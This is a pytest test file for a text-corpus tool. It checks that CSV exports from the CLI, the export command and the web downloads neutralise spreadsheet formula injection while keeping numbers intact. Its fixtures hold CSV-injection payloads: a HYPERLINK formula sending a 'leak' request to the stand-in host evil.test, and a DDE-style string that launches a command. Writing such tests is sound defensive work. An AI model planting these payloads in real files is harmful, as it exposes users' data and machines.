"""Every CSV communique writes opens in a spreadsheet as text: no cell runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from communique.analysis.search import build_index
from communique.cli import cli
from communique.export.rows import write_csv
from communique.model import Document, Turn
from communique.store.duckdb import DuckDBStore
from communique.web import create_app

TITLE = '=HYPERLINK("http://evil.test/?leak","Open")'
TURNS = ["@SUM(1+1)*cmd|' /C calc'!A0 said the minister; the rate fell by -0.5 points", f"{TITLE} -3 +7", "-3"]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formulas") / "corpus.duckdb"
    text = "\n\n".join(TURNS)
    turns, start = [], 0
    for n, body in enumerate(TURNS):
        turns.append(Turn(n, None, "Sergey Lavrov", "official", "statement", start, start + len(body), body))
        start += len(body) + 2
    doc = Document(id="evil/1", source="evil.test", title=TITLE, date="2024-01-02", text=text, turns=turns)
    with DuckDBStore(path) as store:
        store.upsert([doc])
        build_index(store.connection)
    return path


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _no_formula(rows: list[dict[str, str]]) -> None:
    """No cell starts as a formula does (OWASP's list), unless it is a number."""
    for row in rows:
        for value in row.values():
            assert not (value[:1] and value[0] in "=+-@\t\r" and not _number(value)), value


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_cli_csv_neutralises_formulas_and_keeps_numbers(db: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(cli, ["kwic", r"[=+@-]\S+", "--regex", "--db", str(db), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _cells(result.output)
    _no_formula(rows)
    keywords = [row["keyword"] for row in rows]
    assert "'" + TITLE in keywords and "'@SUM(1+1)*cmd|'" in keywords
    assert {"-0.5", "-3", "+7"} <= set(keywords) and all(row["start"].isdigit() for row in rows)
    search = runner.invoke(cli, ["search", "minister", "--db", str(db), "--format", "csv"])
    assert search.exit_code == 0, search.output
    [hit] = _cells(search.output)
    assert hit["snippet"].startswith("'@SUM(") and hit["title"] == "'" + TITLE


def test_export_csv_neutralises_formulas_in_every_table(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", str(out), "--db", str(db)])
    assert result.exit_code == 0, result.output
    [document] = _cells((out / "documents.csv").read_text(encoding="utf-8"))
    assert document["title"] == "'" + TITLE
    turns = _cells((out / "turns.csv").read_text(encoding="utf-8"))
    assert [t["text"] for t in turns] == ["'" + TURNS[0], "'" + TURNS[1], "-3"]
    assert [t["start"] for t in turns] == ["0", str(len(TURNS[0]) + 2), str(len(TURNS[0]) + len(TURNS[1]) + 4)]
    for table in out.glob("*.csv"):
        _no_formula(_cells(table.read_text(encoding="utf-8")))


def test_export_parquet_keeps_the_text_as_stored(db: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    result = CliRunner().invoke(cli, ["export", "--format", "parquet", str(tmp_path / "pq"), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert pq.read_table(tmp_path / "pq" / "documents.parquet").column("title").to_pylist() == [TITLE]


def test_web_downloads_neutralise_formulas(db: Path) -> None:
    with TestClient(create_app(db), base_url="http://localhost") as client:
        lines = client.get("/kwic", params={"term": r"[=+@-]\S+", "regex": "1", "format": "csv"})
        hits = client.get("/search", params={"q": "minister", "format": "csv"})
    assert lines.status_code == hits.status_code == 200
    rows = _cells(lines.text)
    _no_formula(rows)
    assert "'" + TITLE in [row["keyword"] for row in rows] and "-0.5" in [row["keyword"] for row in rows]
    [hit] = _cells(hits.text)
    assert hit["title"] == "'" + TITLE and hit["snippet"].startswith("'@SUM(")


@pytest.mark.parametrize("cell", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+ 5"])
def test_write_csv_quotes_every_formula_start(cell: str) -> None:
    buffer = io.StringIO()
    write_csv([{"a": cell, "n": -3, "x": 0.5}], ["a", "n", "x"], buffer)
    [row] = _cells(buffer.getvalue())
    assert row == {"a": "'" + cell, "n": "-3", "x": "0.5"}


@pytest.mark.parametrize("cell", ["-3", "-0.5", "+7", "-1e-6", ".5", "plain text", ""])
def test_write_csv_leaves_numbers_and_text_alone(cell: str) -> None:
    buffer = io.StringIO()
    write_csv([{"a": cell}], ["a"], buffer)
    assert _cells(buffer.getvalue()) == [{"a": cell}]
